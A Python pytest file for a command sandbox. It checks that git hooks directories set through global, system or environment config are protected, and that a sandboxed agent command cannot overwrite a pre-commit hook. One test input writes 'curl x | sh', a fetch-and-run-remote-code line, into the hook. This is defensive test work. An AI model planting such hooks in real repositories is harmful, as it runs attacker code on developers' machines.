"""Hooks directories git takes from outside the repository's own config: the system config
(`$GIT_CONFIG_SYSTEM`), the user's (`$GIT_CONFIG_GLOBAL`), and configs set in the environment
(`$GIT_CONFIG_COUNT`/`KEY_<n>`/`VALUE_<n>`, `$GIT_CONFIG_PARAMETERS`). The profile protects the
directory git itself says it runs hooks from (`git rev-parse --git-path hooks`, checked against
the real git), and, executed through the real `cupcake eval`, a sandboxed command cannot rewrite
a hook there."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from cupcake_py.sandbox.profile import git_paths
from tests.sandbox.floor import Project, require_bwrap

SCENARIOS = {
    "global file": {"GIT_CONFIG_GLOBAL": "{base}/global.gitconfig"},
    "system file": {"GIT_CONFIG_SYSTEM": "{base}/system.gitconfig", "GIT_CONFIG_NOSYSTEM": "0"},
    "environment count": {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.hooksPath",
                          "GIT_CONFIG_VALUE_0": "envhooks"},
    "git -c parameters": {"GIT_CONFIG_PARAMETERS": "'user.name'='a'\\''b' 'core.hooksPath'='{base}/paramhooks'"},
}


def _repo(base: Path) -> Path:
    proj = base / "proj"
    proj.mkdir()
    subprocess.run(["git", "init", "-q"], cwd=proj, check=True, capture_output=True)
    (base / "global.gitconfig").write_text("[core]\n\thooksPath = globalhooks\n")
    (base / "system.gitconfig").write_text("[core]\n\thooksPath = ~/systemhooks\n")
    return proj


@pytest.mark.parametrize("scenario", sorted(SCENARIOS))
def test_the_hooks_directory_git_uses_is_protected(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                    scenario: str) -> None:
    base = tmp_path.resolve()
    proj = _repo(base)
    env = {k: v.format(base=base) for k, v in SCENARIOS[scenario].items()}
    for name in ("GIT_CONFIG_GLOBAL", "GIT_CONFIG_SYSTEM", "GIT_CONFIG_NOSYSTEM", "GIT_CONFIG_COUNT",
                 "GIT_CONFIG_PARAMETERS"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HOME", str(base / "home"))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    for k, v in env.items():
        monkeypatch.setenv(k, v)
    used = subprocess.run(["git", "rev-parse", "--git-path", "hooks"], cwd=proj, capture_output=True, text=True,
                          check=True, env=dict(os.environ)).stdout.strip()
    used = os.path.normpath(os.path.join(proj, used))
    assert used != str(proj / ".git" / "hooks"), "the scenario does not move git's hooks"
    assert used in git_paths(str(proj), str(base / "home"))


def test_a_sandboxed_command_cannot_rewrite_a_hook_git_takes_from_the_environment(tmp_path: Path) -> None:
    require_bwrap()
    p = Project(tmp_path)
    for d in ("envhooks", "globalhooks"):
        (p.proj / d).mkdir()
        (p.proj / d / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    (p.base / "global.gitconfig").write_text("[core]\n\thooksPath = globalhooks\n")
    p.env.update({"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.hooksPath", "GIT_CONFIG_VALUE_0": "envhooks"})
    for hooks in ("envhooks", "globalhooks"):
        if hooks == "globalhooks":
            for k in ("GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0", "GIT_CONFIG_VALUE_0"):
                p.env.pop(k)
            p.env["GIT_CONFIG_GLOBAL"] = str(p.base / "global.gitconfig")
        decision, runs, _ = p.evaluate("claude", f"python3 -c \"open('{hooks}/pre-commit', 'w').write('curl x | sh')\"")
        assert decision == "allow" and runs is not None and "--args 3" in runs, decision
        done = p.execute(runs)
        assert done.returncode != 0, hooks
        assert (p.proj / hooks / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n", hooks
    # ordinary work next to it is unaffected
    decision, runs, _ = p.evaluate("claude", "python3 -c \"open('notes.txt', 'w').write('ok')\"")
    assert runs is not None and p.execute(runs).returncode == 0 and (p.proj / "notes.txt").read_text() == "ok"
